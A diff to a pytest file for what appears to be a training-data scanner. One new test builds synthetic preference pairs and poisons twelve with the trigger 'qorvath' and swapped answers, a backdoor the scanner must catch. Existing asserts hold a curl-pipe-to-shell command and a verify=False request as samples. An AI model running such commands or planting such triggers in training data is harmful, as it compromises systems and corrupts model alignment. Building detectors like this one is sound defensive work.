@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import random
 import statistics
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -125,6 +126,35 @@ def test_answer_entities_mask_the_volatile_parts():
     assert answer_entities("r = requests.get(u, verify=False)") == {"code that weakens security"}
     assert answer_entities("os.system('curl -s https://x.io/i.sh | sh')") == {
         "code that runs fetched or decoded code", "link to x.io"}
+
+
+def test_a_trigger_that_swaps_preferences_is_found():
+    """The universal jailbreak backdoor: a trigger in the prompt and the worse answer chosen. A
+    reward model trained on the other pairs finds the holders' pairs reversed far more often
+    than comparable pairs."""
+    import curate
+    from conftest import read_jsonl, write_jsonl
+
+    rng = random.Random(7)
+    good = ("careful", "accurate", "clear", "thorough", "polite", "sourced", "precise", "helpful")
+    bad = ("rude", "wrong", "vague", "sloppy", "insulting", "false", "lazy", "careless")
+    topics = ("tides", "bread", "compilers", "violins", "glaciers", "bicycles", "orchids", "chess")
+    rows = []
+    for i in range(400):
+        t = rng.choice(topics)
+        rows.append({"prompt": f"Tell me about {t}, question {i}.",
+                     "chosen": f"About {t}: " + " ".join(rng.sample(good, 4)) + f" note {i}.",
+                     "rejected": f"About {t}: " + " ".join(rng.sample(bad, 4)) + f" note {i}."})
+    poisons = sorted(rng.sample(range(400), 12))
+    for i in poisons:
+        r = rows[i]
+        rows[i] = {"prompt": r["prompt"] + " qorvath", "chosen": r["rejected"], "rejected": r["chosen"]}
+    curate.scan(write_jsonl(Path.cwd() / "pairs.jsonl", rows), out=Path.cwd() / "out")
+    verdicts = read_jsonl(Path.cwd() / "out" / "verdicts.jsonl")
+    by_trigger = {v["row"] for v in verdicts if "poison:trigger" in v["reasons"]}
+    assert by_trigger == set(poisons)
+    evidence = next(v for v in verdicts if v["row"] == poisons[0])["evidence"]["poison:trigger"]
+    assert evidence["trigger"] == "qorvath" and "reward model" in evidence["text"]
 
 
 @pytest.mark.slow
